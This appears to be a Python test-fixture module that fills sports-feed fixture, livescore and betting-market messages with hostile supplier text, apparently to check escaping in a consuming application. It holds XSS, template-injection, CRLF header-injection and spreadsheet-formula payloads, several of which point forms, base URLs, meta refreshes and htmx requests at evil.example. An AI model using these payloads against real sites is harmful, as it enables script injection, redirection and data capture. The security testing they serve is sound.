"""What a hostile supplier writes where names and values belong, and messages that are full of it."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any

#: An element and an attribute that no page of ours has: where a parser finds one, a text was not escaped.
ELEMENT, ATTRIBUTE = "zqtag", "zqattr"
#: 1234 * 1234: only a template engine makes it out of TEMPLATES.
PRODUCT = "1522756"

MARKUP = (
    f"<{ELEMENT} {ATTRIBUTE}=1>",
    f"</title></textarea></script></style><{ELEMENT}>",
    f"<script>window.{ELEMENT}=1</script><{ELEMENT}>",
    f"<style>*{{display:none}}</style><{ELEMENT}>",
    f'"><img src=x onerror="{ELEMENT}()" {ATTRIBUTE}>',
    f"' {ATTRIBUTE}='1' onmouseover='{ELEMENT}()",
    f'" {ATTRIBUTE}="1" onfocus="{ELEMENT}()" autofocus="',
    f"`{ATTRIBUTE}=1 x=`",
    f"<svg onload={ELEMENT}()><{ELEMENT}>",
    f"<base href=//evil.example><{ELEMENT}>",
    f"<meta http-equiv=refresh content=0;url=//evil.example><{ELEMENT}>",
    f"<iframe srcdoc='<{ELEMENT}>'></iframe><{ELEMENT}>",
    f"<form action=//evil.example><{ELEMENT}>",
    f'<hx-partial hx-target="body" hx-swap="innerHTML"><{ELEMENT}></hx-partial>',
    f'x" hx-get="//evil.example" hx-trigger="load" {ATTRIBUTE}="',
    f"&lt;{ELEMENT}&gt;&#60;{ELEMENT}&#62;<{ELEMENT}>",
    f"<!--<{ELEMENT}>",
    f"--><{ELEMENT}>]]><{ELEMENT}>",
    f"javascript:{ELEMENT}()//<{ELEMENT}>",
    f"\u003c{ELEMENT}\uff1e<{ELEMENT}\u3000>",
)
TEMPLATES = (
    "{{ 1234*1234 }}",
    "{% print(1234*1234) %}",
    "${1234*1234}",
    "#{1234*1234}",
    "{{ [].__class__ }}",
    "%s%n%(x)s{0}",
)
CONTROLS = (
    "a\0b",
    "\x1b[2J\x1b]0;x\x07",
    "\u202edesrever\u2066",
    "\u200f\u200e\ufeff\u200b",
    "one\r\nSet-Cookie: x=1\r\n\r\nbody",
    "\u2028\u2029\x85\x0b\x0c",
    "\ud800",
    "\U0010ffff\ufffe",
    "é" * 2000,
    "W" * 60_000,
    "",
    " ",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "x;=1+1",
    "x,=1",
    'x";"=1',
    "x|@a",
    "\uff1d1+1",
    "x\t=1",
)
ALL = (*MARKUP, *TEMPLATES, *CONTROLS, *FORMULAS)
#: One of each sort.
FEW = (
    *MARKUP[:7],
    MARKUP[13],
    TEMPLATES[0],
    *CONTROLS[:3],
    *CONTROLS[6:7],
    CONTROLS[9],
    FORMULAS[0],
    FORMULAS[7],
    FORMULAS[11],
)
#: The fixtures that messages are about have ids from here on.
FIRST = 90_000
IN_PLAY, GOAL, MARKETS = 2, 9, 3


def messages(number: int, text: str) -> list[tuple[int, dict[str, Any]]]:
    """(type, event) for one new fixture, with this text wherever a message may have one."""
    pk, now = FIRST + number, datetime.now(UTC)
    player = {"Id": pk, "Name": text, "BirthDate": text}
    line_up = {"PlayerId": pk, "ShirtNumber": text, "Position": text, "State": text, "Player": player}
    extra = [{"Name": text, "Value": text}, {"Name": "Pitch", "Value": text}]
    sides = [
        {
            "Id": pk * 10 + n,
            "Name": text,
            "Position": str(n),
            "Form": text,
            "Formation": text,
            "FixturePlayers": [line_up],
            "ShirtColor": text,
            "ExtraData": extra,
        }
        for n in (1, 2)
    ]
    label = {"Id": pk, "Name": text}
    venue = {"Id": pk, "Name": text, "Country": label, "City": label, "CourtSurfaceType": text, "Environment": text}
    described = {
        "FixtureName": text,
        "Sport": label if number % 3 == 0 else {"Id": 6046, "Name": "Football"},
        "Location": label,
        "League": label | {"Tour": text, "SportCategory": text},
        "StartDate": (now + timedelta(minutes=number)).isoformat(),
        "LastUpdate": now.isoformat(),
        "Status": IN_PLAY,
        "Participants": sides,
        "FixtureExtraData": extra,
        "Venue": venue,
        **dict.fromkeys(("Stage", "Round", "Season"), label),
    }
    return [
        (1, {"FixtureId": pk, "Fixture": described}),
        (2, {"FixtureId": pk, "Livescore": livescore(pk, text)}),
        (MARKETS, {"FixtureId": pk, "Markets": markets(pk, text, now)}),
    ]


def livescore(pk: int, text: str) -> dict[str, Any]:
    results = [{"Position": "1", "Value": text}, {"Position": "2", "Value": text}]
    incident = {"IncidentType": GOAL, "Seconds": 60, "ParticipantPosition": "1", "PlayerName": text, "Results": results}
    incident |= {"Players": [{"Id": pk, "Name": text}], "PlayerId": text}
    period = {"Type": 10, "Results": results, "Incidents": [incident]}
    values = [{"Id": 1, "Name": text, "Value": text}]
    return {
        "Scoreboard": {"Status": IN_PLAY, "CurrentPeriod": 10, "Time": "600", "Results": results},
        "Periods": [period],
        "Statistics": [{"Type": 1, "Results": results, "Incidents": [incident]}],
        "PlayerStatistics": [{"PlayerId": text, "PlayerName": text, "Statistics": values}],
        "LivescoreExtraData": [{"Name": text, "Value": text}],
        "CurrentIncident": {"Id": 1, "Name": text},
    }


def markets(pk: int, text: str, now: datetime) -> list[dict[str, Any]]:
    bets: list[dict[str, Any]] = [
        {
            "Id": pk * 1000 + n,
            "Name": text,
            "Line": text,
            "BaseLine": text,
            "Status": 1,
            "Price": price,
            "PlayerName": text,
            "LastUpdate": (now + timedelta(seconds=n)).isoformat(),
        }
        for n, price in enumerate(("2.5", "3.1"))
    ]
    provider = {"Id": 8, "Name": "Bet Eight", "Bets": bets}
    strange = {"Id": pk, "Name": text, "Bets": [bet | {"Id": bet["Id"] + 10} for bet in bets]}
    named = {"Id": 1, "Name": "1X2", "ProviderMarkets": [provider, strange]}
    return [named, {"Id": pk, "Name": text, "MainLine": text, "ProviderMarkets": [provider], "Bets": bets}]


def unreadable(text: str) -> list[bytes]:
    """Messages that are refused in whole or in part, since the text stands where a number belongs."""
    header = {"Type": 1, "MsgSeq": 1, "MsgGuid": text, "ServerTimestamp": text}
    wrong = {"FixtureId": text, "Fixture": {"Status": text, "Sport": {"Id": text, "Name": text}}}
    return [json.dumps({"Header": header, "Body": {"Events": [wrong]}}).encode(), json.dumps({text: text}).encode()]
